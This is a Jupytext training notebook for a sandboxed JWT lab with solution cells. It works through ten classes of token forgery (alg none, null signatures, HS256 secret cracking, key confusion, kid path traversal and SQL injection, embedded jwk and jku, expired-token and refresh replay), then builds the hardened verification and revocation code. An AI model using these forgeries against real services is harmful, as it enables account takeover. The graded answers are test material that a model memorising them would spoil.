# ---
# jupyter:
#   jupytext:
#     text_representation:
#       extension: .py
#       format_name: percent
# ---

# %% [markdown]
# # 02 · JWT — access and refresh tokens
#
# *Workflow step 1: choose an authentication strategy.* Standards: [RFC 8725 — JSON Web Token
# Best Current Practices](https://www.rfc-editor.org/rfc/rfc8725) (§2 the threats, §3 the
# rules), [RFC 7519](https://www.rfc-editor.org/rfc/rfc7519) (JWT; §4.1 registered claims),
# [RFC 7518](https://www.rfc-editor.org/rfc/rfc7518) §3.2 (HMAC key size),
# [RFC 9068](https://www.rfc-editor.org/rfc/rfc9068) §2.1 (`typ: at+jwt`),
# [RFC 9700](https://www.rfc-editor.org/rfc/rfc9700) §4.14.2 (refresh token rotation), the
# [OWASP JSON Web Token Cheat Sheet](https://cheatsheetseries.owasp.org/cheatsheets/JSON_Web_Token_for_Java_Cheat_Sheet.html),
# and OWASP ASVS 5.0 V9.1–9.2 (self-contained tokens) and V7.4 (session termination).
#
# The lab app is an API whose team wrote their own JWT code ("how hard can base64 and an HMAC
# be?"). Access tokens are RS256 so other services can check them with the published public
# key; refresh tokens are HS256 with a shared secret. You will get admin access eleven
# different ways, then write the token handling that stops every one of them.

# %%
import base64
import hashlib
import hmac
import json
import time

import httpx
import jwt

import labkit
from labkit.wordlists import common_passwords

lab = labkit.open_lab("02-jwt")
lab

# %% [markdown]
# ## Learn
#
# A JWT is three base64url segments: `header.claims.signature`. Anyone can *read* the first
# two; only the signature proves who made them. The header says how it was signed (`alg`) and
# sometimes which key (`kid`) — and that is the trap: **the header is written by whoever sends
# the token.** RFC 8725 §3.1: the verifier decides which algorithms it accepts, never the token.
#
# The catalogue's pattern issues two tokens: a short **access token** (15 minutes, sent as
# `Authorization: Bearer`) and a long **refresh token** (7 days) kept in an `HttpOnly; Secure;
# SameSite=Strict` cookie that only the refresh route ever receives:
#
# ```ts
# const accessToken = jwt.sign({ sub: user.id, role: user.role }, process.env.JWT_SECRET!,
#                              { expiresIn: "15m", algorithm: "HS256" });
# const refreshToken = jwt.sign({ sub: user.id, tokenVersion: user.tokenVersion },
#                               process.env.JWT_REFRESH_SECRET!, { expiresIn: "7d" });
# ```
#
# Verification must check, every time: the signature with *our* key and *our* algorithm; that
# `exp` exists and has not passed; who issued the token (`iss`) and for whom (`aud`); what
# *kind* of token it is (`typ`); and that it has not been revoked. Let us log in as Carol, a
# viewer, and look at what we get.

# %%
carol = lab.users["carol"]
response = lab.client.post("/api/auth/login", json={"email": carol.email, "password": carol.password})
access = response.json()["accessToken"]
refresh = response.cookies["refreshToken"]
print(response.headers["set-cookie"][:60], "...")
for name, token in [("access", access), ("refresh", refresh)]:
    # reading a JWT needs no key: PyJWT decodes the first two segments without verifying
    header, claims = jwt.get_unverified_header(token), jwt.decode(token, options={"verify_signature": False})
    print(f"{name:>8}: {header}\n          {claims}")


def bearer(token):
    """The Authorization header for a token."""
    return {"Authorization": f"Bearer {token}"}


print(lab.client.get("/api/me", headers=bearer(access)).json())
print(lab.client.get("/api/admin/users", headers=bearer(access)).json())

# %% [markdown]
# Carol is a viewer, and the admin route says so. Every attack below ends with a token that
# `/api/admin/users` (or `/api/me`) accepts. We will reuse Carol's claims with one change:

# %%
admin_claims = {**jwt.decode(access, options={"verify_signature": False}), "role": "admin"}
admin_claims

# %% [markdown]
# ## Attack 1 — `alg: none`
#
# JWS defines an "unsecured" algorithm, `none`, with an empty signature (RFC 7518 §3.6). A
# verifier that lets the header pick the algorithm will happily "verify" it. Sloppy filters
# compare case-sensitively, so attackers send `None`, `NONE`, `nOnE` too.
#
# No JWT library will write such a token for you, and you need none: a segment is
# `base64url(json)` without the `=` padding (RFC 7515 §2). Build four tokens that carry
# `admin_claims`, one per casing of `none`, with an empty signature (the token still ends in
# a `.`). Success: `/api/admin/users` answers 200 to each. Keep them in `none_tokens`; the
# helpers you write here (encoding a segment) serve the next attacks too.

# %% labkit={"answer": "alg-none"}
### BEGIN SOLUTION
def b64url(data: bytes) -> str:
    """base64url without padding (RFC 7515 §2)."""
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def segment(obj: dict) -> str:
    return b64url(json.dumps(obj).encode())


none_tokens = [f"{segment({'alg': alg, 'typ': 'JWT'})}.{segment(admin_claims)}." for alg in ["none", "None", "NONE", "nOnE"]]
### STUB
none_tokens = []  # TODO: four admin tokens, alg "none" in four casings, empty signature
### END SOLUTION
for token in none_tokens:
    print(jwt.get_unverified_header(token), lab.client.get("/api/admin/users", headers=bearer(token)).status_code)

# %% labkit={"check": "alg-none"}
lab.check("alg-none", none_tokens)

# %% [markdown]
# ## Attack 2 — change the role, break the signature
#
# Changing a claim breaks the signature, and the app notices...

# %%
head, _, signature = access.split(".")
admin_body = base64.urlsafe_b64encode(json.dumps(admin_claims).encode()).rstrip(b"=").decode()
tampered = f"{head}.{admin_body}.{signature}"  # the old signature, new claims
lab.client.get("/api/admin/users", headers=bearer(tampered)).json()

# %% [markdown]
# ...unless there is no signature to check. This verifier treats an empty signature as a
# "legacy unsigned token" (Java's "psychic signatures", CVE-2022-21449, accepted an all-zero
# ECDSA signature in the same spirit). Keep your access token's header (alg `RS256`), put
# `admin_claims` in the claims and send no signature at all. Success: `/api/admin/users`
# answers 200. Keep the token in `null_signed`.

# %% labkit={"answer": "tampered-role"}
### BEGIN SOLUTION
null_signed = f"{access.split('.')[0]}.{segment(admin_claims)}."
print(lab.client.get("/api/admin/users", headers=bearer(null_signed)).status_code)
### STUB
null_signed = None  # TODO: your access token's header, admin claims, an empty signature
### END SOLUTION

# %% labkit={"check": "tampered-role"}
lab.check("tampered-role", null_signed)

# %% [markdown]
# The HMAC check is sloppy in another way: it compares only the first 8 bytes of the
# signature. Flip a bit further along and the refresh token still works (a correct verifier
# compares all 32 bytes, in constant time):

# %%
def unb64url(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


for byte in (2, 20):
    signing_input, sig = refresh.rsplit(".", 1)
    flipped_sig = bytearray(unb64url(sig))
    flipped_sig[byte] ^= 1
    flipped = signing_input + "." + base64.urlsafe_b64encode(bytes(flipped_sig)).rstrip(b"=").decode()
    print(f"bit flipped in signature byte {byte:>2}:", lab.client.get("/api/me", headers=bearer(flipped)).status_code)

# %% [markdown]
# ## Attack 3 — crack the HS256 secret
#
# An HS256 token is an HMAC of its first two segments under a secret. Anyone holding one
# token can guess secrets **offline**: no request, no rate limit. RFC 8725 §3.5 and RFC 7518
# §3.2 ask for a key of at least 256 random bits; a human-chosen password is not one.
#
# Your refresh token is HS256: its signature is `HMAC-SHA256(secret, "header.claims")`.
# Find the secret among the shipped wordlist's 30,000 common passwords
# (`common_passwords()`), then mint a token with `admin_claims` signed with it. Success: the
# secret is printed and `/api/admin/users` answers 200 to your token. Keep it in `minted`.

# %% labkit={"answer": "crack-secret"}
### BEGIN SOLUTION
def hs256(header: dict, claims: dict, key: bytes) -> str:
    signing_input = f"{segment(header)}.{segment(claims)}"
    return f"{signing_input}.{b64url(hmac.new(key, signing_input.encode(), hashlib.sha256).digest())}"


signing_input, signature = refresh.rsplit(".", 1)
target = unb64url(signature)
secret = next(
    word for word in common_passwords()
    if hmac.compare_digest(hmac.new(word.encode(), signing_input.encode(), hashlib.sha256).digest(), target)
)  # fmt: skip
print("the secret is", repr(secret))
minted = hs256({"alg": "HS256", "typ": "JWT"}, admin_claims, secret.encode())
### STUB
minted = None  # TODO: crack the refresh token's secret, then mint an admin token with it
### END SOLUTION

# %% labkit={"check": "crack-secret"}
lab.check("crack-secret", minted)

# %% [markdown]
# ## Attack 4 — RS256 → HS256 key confusion
#
# Access tokens are RS256: signed with a private key, verified with a *public* one that the
# app publishes at `/jwks.json` for other services. This verifier loads "the key for this
# kid" as bytes and then runs whatever `alg` the header names. Tell it `HS256`, and it uses
# the public key file as an HMAC secret — a secret everybody has.
#
# Rebuild the PEM file (SubjectPublicKeyInfo, as servers store it) from the JWKS — PyJWT's
# `jwt.algorithms.RSAAlgorithm.from_jwk` and `cryptography`'s `public_bytes` do it — keep
# `kid: "access-rs256"`, set `alg: HS256` and sign `admin_claims` with the PEM's bytes as the
# HMAC key. Success: `/api/admin/users` answers 200. Keep the token in `confused`.

# %%
jwks = lab.client.get("/jwks.json").json()
jwks["keys"][0]["kid"], jwks["keys"][0]["n"][:40] + "..."

# %% labkit={"answer": "key-confusion"}
### BEGIN SOLUTION
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

public_key = jwt.algorithms.RSAAlgorithm.from_jwk(jwks["keys"][0])
public_pem = public_key.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
confused = hs256({"alg": "HS256", "typ": "JWT", "kid": "access-rs256"}, admin_claims, public_pem)
print(lab.client.get("/api/admin/users", headers=bearer(confused)).status_code)
### STUB
confused = None  # TODO: an HS256 admin token signed with the public key's PEM bytes
### END SOLUTION

# %% labkit={"check": "key-confusion"}
lab.check("key-confusion", confused)

# %% [markdown]
# ## Attacks 5 and 6 — tokens that do not expire
#
# An old debug log captured two `Authorization` headers two days ago. One is Alice's admin
# session, long expired; the other was minted by a "nightly report" job without any `exp`.
# This verifier never looks at `exp`, so both still work. RFC 7519 §4.1.4 makes `exp`
# optional in the *format* — your verifier must make it mandatory.

# %%
log = lab.client.get("/api/_lab/token-log").json()
for entry in log:
    claims = jwt.decode(entry["authorization"].split()[1], options={"verify_signature": False})
    print(entry["time"], entry["kind"], claims)

# %% [markdown]
# Hand in the expired token as `expired` and the exp-less one as `forever` (the token only,
# without `Bearer `).

# %% labkit={"answer": "expired-token"}
### BEGIN SOLUTION
expired = next(e["authorization"].split()[1] for e in log if e["kind"] == "expired")
print(time.time() - jwt.decode(expired, options={"verify_signature": False})["exp"], "seconds past exp")
### STUB
expired = None  # TODO: the expired token from the log
### END SOLUTION

# %% labkit={"check": "expired-token"}
lab.check("expired-token", expired)

# %% labkit={"answer": "no-exp"}
### BEGIN SOLUTION
forever = next(e["authorization"].split()[1] for e in log if e["kind"] == "no-exp")
### STUB
forever = None  # TODO: the token without exp from the log
### END SOLUTION

# %% labkit={"check": "no-exp"}
lab.check("no-exp", forever)

# %% [markdown]
# ## Attack 7 — a refresh token is not an access token
#
# Both tokens are JWTs signed by the same app, and this verifier accepts either anywhere: a
# stolen 7-day refresh token becomes a 7-day access token (RFC 8725 §2.8 calls it
# substitution; §3.11 answers it with explicit typing). Send your refresh token to `/api/me`.

# %% labkit={"answer": "refresh-as-access"}
### BEGIN SOLUTION
print(lab.client.get("/api/me", headers=bearer(refresh)).json())
as_access = refresh
### STUB
as_access = None  # TODO: the token you used as an access token
### END SOLUTION

# %% labkit={"check": "refresh-as-access"}
lab.check("refresh-as-access", as_access)

# %% [markdown]
# ## Attack 8 — `kid` path traversal
#
# The app reads the key named by `kid` from a file in its key directory. The `kid` is just a
# string in a header you write (RFC 8725 §3.10: received data is input, sanitise it).
# `../../../../../../../../dev/null` climbs to the root and names a file with *no bytes in it*:
# an HMAC key you know. Mint an HS256 token with `admin_claims` whose `kid` reads that file,
# signed with the key that file holds. Success: `/api/admin/users` answers 200. Keep it in
# `kid_token`.

# %% labkit={"answer": "kid-injection"}
### BEGIN SOLUTION
kid_token = hs256({"alg": "HS256", "typ": "JWT", "kid": "../../../../../../../../dev/null"}, admin_claims, b"")
print(lab.client.get("/api/admin/users", headers=bearer(kid_token)).status_code)
### STUB
kid_token = None  # TODO: an admin token whose kid reads /dev/null, signed with b""
### END SOLUTION

# %% labkit={"check": "kid-injection"}
lab.check("kid-injection", kid_token)

# %% [markdown]
# (The same bug in SQL — `SELECT key FROM keys WHERE kid = '{kid}'` — lets a `kid` of
# `x' UNION SELECT 'attacker-key` choose the key: lab 07's injection, in a token header.)
#
# ## Attack 9 — bring your own key
#
# JWS allows the header to carry the verification key itself (`jwk`, RFC 7515 §4.1.3) or a
# URL to fetch it from (`jku`, §4.1.2). A verifier that trusts them checks the token against
# the attacker's key (CVE-2018-0114 in Cisco's node-jose). Make an RSA key pair
# (`cryptography`), put its public half in the header as a JWK and sign `admin_claims` with
# the private half (RS256). Success: `/api/admin/users` answers 200. Keep it in
# `own_key_token`.

# %% labkit={"answer": "embedded-jwk"}
### BEGIN SOLUTION
from cryptography.hazmat.primitives.asymmetric import rsa

my_key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
my_jwk = json.loads(jwt.algorithms.RSAAlgorithm.to_jwk(my_key.public_key()))
own_key_token = jwt.encode(admin_claims, my_key, algorithm="RS256", headers={"jwk": my_jwk})
print(lab.client.get("/api/admin/users", headers=bearer(own_key_token)).status_code)
### STUB
own_key_token = None  # TODO: an RS256 admin token carrying your own public key in "jwk"
### END SOLUTION

# %% labkit={"check": "embedded-jwk"}
lab.check("embedded-jwk", own_key_token)

# %% [markdown]
# `jku` works the same way, with one more step: the attacker hosts the JWKS. Here the
# "attacker's server" is a second sandbox on loopback (`jwks_app` serves a JWKS; `forge` and
# `rsa_jwk` do what you wrote above):

# %%
from labkit.attacks import jwt as jwt_attacks
from labkit.sandbox.server import Sandbox

attacker_key = jwt_attacks.new_rsa_key()
with Sandbox(jwt_attacks.jwks_app({"keys": [jwt_attacks.rsa_jwk(attacker_key)]}), name="attacker") as evil:
    jku_header = {"alg": "RS256", "typ": "JWT", "jku": f"{evil.url}/jwks.json", "kid": "attacker"}
    jku_token = jwt_attacks.forge(jku_header, admin_claims, attacker_key)
    print("jku token on /api/admin/users:", lab.client.get("/api/admin/users", headers=bearer(jku_token)).status_code)

# %% [markdown]
# ## Attack 10 — logout that logs nobody out
#
# Logout here only deletes the cookie in *your* browser. The refresh token itself stays valid
# for seven days, so whoever copied it (malware, a shared computer, a proxy log) keeps minting
# access tokens. Log in as Bob, keep his refresh token, log out, then refresh with it (send
# the cookie yourself: `headers={"Cookie": f"refreshToken={token}"}`).

# %% labkit={"answer": "refresh-after-logout"}
### BEGIN SOLUTION
bob = lab.users["bob"]
login = httpx.post(f"{lab.url}/api/auth/login", json={"email": bob.email, "password": bob.password})
bob_access, bob_refresh = login.json()["accessToken"], login.cookies["refreshToken"]
print("logout:", lab.client.post("/api/auth/logout", headers=bearer(bob_access)).status_code)
again = lab.client.post("/api/auth/refresh", headers={"Cookie": f"refreshToken={bob_refresh}"})
print("refresh after logout:", again.status_code)
### STUB
bob_refresh = None  # TODO: log in as Bob, log out, refresh with his old refresh token
### END SOLUTION

# %% labkit={"check": "refresh-after-logout"}
lab.check("refresh-after-logout", bob_refresh)

# %% [markdown]
# ## Fix — the token contract
#
# You will now write the app's token handling as five small functions; the lab plugs them into
# its routes. The keys come from the app's secret store (lab 08), as a dict:
#
# - `keys["access"]`, `keys["refresh"]`: two different 32-byte random HMAC keys (RFC 7518 §3.2);
# - `keys["issuer"]`, `keys["audience"]`: the `iss` and `aud` your tokens carry and require.
#
# Token contract (the app's lab-only log uses it too): HS256; header `typ` is `at+jwt` for
# access tokens (RFC 9068) and `refresh+jwt` for refresh tokens; claims `sub` (the user id,
# as a **string**), `iss`, `aud`, `iat`, `exp`, `ver` (the user's `tokenVersion`); access
# tokens add `role`; refresh tokens add `jti` (a fresh random id) and `fam` (the family id
# the app passes in `user["family"]`).
#
# To **reject** a token, raise `jwt.InvalidTokenError` (PyJWT's own errors are subclasses of
# it; `jwt.ExpiredSignatureError` becomes `Token expired`). Anything else you raise is a bug
# and shows as a 500.
#
# The lab's app makes its own keys for your functions. To try them here first, make a set of
# the same shape (`secrets.token_bytes(32)` is 256 random bits, the HS256 minimum — not a
# word from a list, as Attack 3 showed):

# %%
import secrets

keys = {
    "access": secrets.token_bytes(32),
    "refresh": secrets.token_bytes(32),
    "issuer": "https://auth.labkit.example",
    "audience": "https://api.labkit.example",
}
print({name: value if isinstance(value, str) else f"{len(value)} random bytes" for name, value in keys.items()})

# %% [markdown]
# ### Fix 1 — the refresh cookie
#
# Write `refresh_cookie(token) -> str`, the `Set-Cookie` value of a cookie named
# `refreshToken` (the refresh route reads that name, or its prefixed form
# `__Secure-refreshToken`) with the catalogue's
# `HttpOnly; Secure; SameSite=Strict; Path=/api/auth/refresh; Max-Age=604800`. `HttpOnly`
# keeps it from scripts (XSS), `Secure` off plain HTTP, `SameSite=Strict` off cross-site
# requests, and the `Path` off every route but the one that needs it. Attribute names are
# case-insensitive and their order is free (RFC 6265 §5.2).
#
# <!-- labkit:rules cookie -->

# %% labkit={"answer": "cookie"}
def refresh_cookie(token: str) -> str:
    ### BEGIN SOLUTION
    return f"refreshToken={token}; HttpOnly; Secure; SameSite=Strict; Path=/api/auth/refresh; Max-Age=604800"
    ### END SOLUTION


# %% labkit={"check": "cookie"}
lab.check("cookie", refresh_cookie=refresh_cookie)

# %% [markdown]
# ### Fix 2 — issue and verify
#
# `issue_tokens(user, keys) -> {"accessToken", "refreshToken"}`: `user` is a dict with
# `id`, `role`, `tokenVersion` and `family`. Access tokens live 15 minutes, refresh tokens 7
# days. Use `jwt.encode(claims, key, algorithm="HS256", headers={"typ": ...})`.
#
# `verify_token(token, typ, keys) -> claims`: `typ` is `"access"` or `"refresh"`. Use
# `jwt.decode_complete` with the key for that type, a **hard-coded** `algorithms=["HS256"]`,
# `options={"require": [...]}` for `exp`, `iat`, `sub`, `iss`, `aud`, `issuer=` and
# `audience=`, a small `leeway` (30 s; never more than 60) — then check the header's `typ`,
# and that the token does not claim a longer life (`exp - iat`) than its type has: whoever
# holds a key can mint a token that lives ten years (the "nightly job" token of the log).
# The check also sends tokens that another service signed with *your* keys, each with one
# thing wrong.
#
# <!-- labkit:rules tokens -->

# %% labkit={"answer": "tokens"}
ACCESS_SECONDS, REFRESH_SECONDS = 15 * 60, 7 * 24 * 3600
TYPES = {"access": "at+jwt", "refresh": "refresh+jwt"}
LIFETIMES = {"access": ACCESS_SECONDS, "refresh": REFRESH_SECONDS}


def issue_tokens(user: dict, keys: dict) -> dict:
    ### BEGIN SOLUTION
    now = int(time.time())
    common = {"sub": str(user["id"]), "ver": user["tokenVersion"], "iss": keys["issuer"], "aud": keys["audience"], "iat": now}
    access_claims = {**common, "role": user["role"], "exp": now + ACCESS_SECONDS}
    refresh_claims = {**common, "jti": secrets.token_urlsafe(16), "fam": user["family"], "exp": now + REFRESH_SECONDS}
    return {
        "accessToken": jwt.encode(access_claims, keys["access"], algorithm="HS256", headers={"typ": TYPES["access"]}),
        "refreshToken": jwt.encode(refresh_claims, keys["refresh"], algorithm="HS256", headers={"typ": TYPES["refresh"]}),
    }
    ### END SOLUTION


def verify_token(token: str, typ: str, keys: dict) -> dict:
    ### BEGIN SOLUTION
    decoded = jwt.decode_complete(
        token,
        keys[typ],
        algorithms=["HS256"],  # ours, never the header's (RFC 8725 §3.1)
        audience=keys["audience"],
        issuer=keys["issuer"],
        leeway=30,
        options={"require": ["exp", "iat", "sub", "iss", "aud"]},
    )
    if decoded["header"].get("typ") != TYPES[typ]:  # explicit typing (RFC 8725 §3.11)
        raise jwt.InvalidTokenError(f"not an {typ} token")
    claims = decoded["payload"]
    if claims["exp"] - claims["iat"] > LIFETIMES[typ]:
        raise jwt.InvalidTokenError(f"an {typ} token lives at most {LIFETIMES[typ]} s")
    return claims
    ### END SOLUTION


# %% [markdown]
# Your own forgeries from the Attack cells go in too: against your fix, every one of them
# must now be refused.

# %%
my_forgeries = {
    "Attack 1 (alg none)": none_tokens,
    "Attack 2 (no signature)": null_signed,
    "Attack 3 (cracked secret)": minted,
    "Attack 4 (key confusion)": confused,
    "Attacks 5-6 (expired, no exp)": [expired, forever],
    "Attack 7 (refresh as access)": as_access,
    "Attack 8 (kid traversal)": kid_token,
    "Attack 9 (own jwk)": own_key_token,
}

# %% labkit={"check": "tokens"}
lab.check("tokens", my_forgeries, issue_tokens=issue_tokens, verify_token=verify_token)

# %% [markdown]
# ### Fix 3 — logout and rotation
#
# A signed token stays valid until `exp` unless the server keeps *some* state. The app hands
# you a `ledger` (a small table in its database) with `token_version(sub)`, `revoke_all(sub)`
# (adds one to the user's `tokenVersion`), `use_once(jti)` (True the first time, False ever
# after), `revoke_family(fam)` and `family_revoked(fam)`.
#
# - `check_not_revoked(claims, ledger)`: called for every accepted token. Reject when `ver`
#   differs from the user's current version. For a refresh token (it has `fam`): reject a
#   revoked family; and when `use_once(jti)` says it was used before, someone replayed a
#   rotated token — revoke its family, then reject (RFC 9700 §4.14.2).
# - `logout(claims, ledger)`: revoke every token of the user, on every device.
#
# This makes every request look up one number: the price of real logout with JWTs.
#
# <!-- labkit:rules revocation -->

# %% labkit={"answer": "revocation"}
def check_not_revoked(claims: dict, ledger) -> None:
    ### BEGIN SOLUTION
    if claims.get("ver") != ledger.token_version(claims["sub"]):
        raise jwt.InvalidTokenError("revoked at logout")
    if "fam" in claims:
        if ledger.family_revoked(claims["fam"]):
            raise jwt.InvalidTokenError("refresh family revoked")
        if not ledger.use_once(claims["jti"]):
            ledger.revoke_family(claims["fam"])
            raise jwt.InvalidTokenError("refresh token reused: family revoked")
    ### END SOLUTION


def logout(claims: dict, ledger) -> None:
    ### BEGIN SOLUTION
    ledger.revoke_all(claims["sub"])
    ### END SOLUTION


# %% labkit={"check": "revocation"}
lab.check("revocation", issue_tokens=issue_tokens, verify_token=verify_token, check_not_revoked=check_not_revoked, logout=logout)

# %% [markdown]
# ## Verify — replay every attack
#
# Your five functions together are the app's new token handling. The check replays the whole
# battery against it — `none` in four casings, tampered and null and bit-flipped signatures,
# a wordlist crack of your key, key confusion with the published public key, `kid`
# traversal, `jwk` and `jku` headers, the expired and exp-less tokens, a refresh token as an
# access token, refresh reuse and logout — while Alice and Carol log in, refresh and work.
# Your own forged tokens (`my_forgeries`) go in with them.
#
# <!-- labkit:rules verify -->

# %% labkit={"check": "verify"}
lab.check(
    "verify",
    my_forgeries,
    issue_tokens=issue_tokens,
    verify_token=verify_token,
    check_not_revoked=check_not_revoked,
    logout=logout,
    refresh_cookie=refresh_cookie,
)

# %% [markdown]
# ## Many services: ES256 and a JWKS
#
# With one shared HMAC secret, every service that can *verify* tokens can also *mint* them.
# When several services check tokens, sign with a private key (ES256 here, RFC 7518 §3.4),
# publish the public keys as a JWKS (RFC 7517 §5), and let each service fetch them with
# PyJWT's `PyJWKClient` — and pin the algorithm to ES256, so Attack 4's trick has nothing to
# work with:

# %%
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from fastapi import FastAPI

from labkit.sandbox.server import Sandbox

auth_key = ec.generate_private_key(ec.SECP256R1())  # the auth service alone holds it
auth_jwk = {**json.loads(jwt.algorithms.ECAlgorithm.to_jwk(auth_key.public_key())), "kid": "es256-1", "use": "sig", "alg": "ES256"}
auth_app = FastAPI()
auth_app.get("/jwks.json")(lambda: {"keys": [auth_jwk]})
now = int(time.time())
es_claims = {"sub": "7", "role": "editor", "iss": keys["issuer"], "aud": keys["audience"], "iat": now, "exp": now + 900}
es_token = jwt.encode(es_claims, auth_key, algorithm="ES256", headers={"kid": "es256-1", "typ": "at+jwt"})


def orders_service_verify(token: str, jwks_client: jwt.PyJWKClient) -> dict:
    """What another service runs: the key from the JWKS, the algorithm from its own code."""
    key = jwks_client.get_signing_key_from_jwt(token).key
    return jwt.decode(token, key, algorithms=["ES256"], issuer=keys["issuer"], audience=keys["audience"],
                      options={"require": ["exp", "iat", "sub", "iss", "aud"]})  # fmt: skip


def b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


with Sandbox(auth_app, name="auth-service") as auth_box:
    jwks_client = jwt.PyJWKClient(f"{auth_box.url}/jwks.json")
    print("header:", jwt.get_unverified_header(es_token))
    print("the orders service accepts it:", orders_service_verify(es_token, jwks_client)["role"])
    # key confusion again: HS256 "signed" with the published public key
    es_pem = auth_key.public_key().public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    signing_input = f"{b64(json.dumps({'alg': 'HS256', 'typ': 'at+jwt', 'kid': 'es256-1'}).encode())}.{b64(json.dumps(es_claims).encode())}"
    forged = f"{signing_input}.{b64(hmac.new(es_pem, signing_input.encode(), hashlib.sha256).digest())}"
    try:
        orders_service_verify(forged, jwks_client)
    except jwt.InvalidTokenError as error:
        print("an HS256 forgery with the public key:", type(error).__name__, "-", error)

# %% [markdown]
# ## Recap
#
# | avoid | do instead |
# | --- | --- |
# | JWT in localStorage | httpOnly secure cookie (refresh), memory (access) |
# | Rolling your own crypto | Use established libraries (jose, bcrypt) — here PyJWT |
# | Symmetric JWT for multi-service | Use RS256/ES256 (asymmetric) for distributed |
#
# What a reviewer looks for in real code:
#
# - `jwt.decode(...)` always with a literal `algorithms=[...]`; never `get_unverified_header`
#   feeding it, never `verify_signature: False`, never `none`;
# - `options={"require": ["exp", "iat", "sub", ...]}`, `audience=` and `issuer=` set; leeway
#   in seconds, not hours;
# - keys from a secret store, 32+ random bytes for HMAC, a different key (or at least a
#   `typ`/`aud`) per token type; `kid`, `jku`, `jwk`, `x5u` never trusted to *choose* a key
#   (a `kid` only looks up keys you already hold);
# - refresh tokens in an `HttpOnly; Secure; SameSite=Strict` cookie with a narrow `Path`,
#   rotated on use, with reuse detection; logout that revokes server-side.

# %%
labkit.progress()

# %%
lab.close()
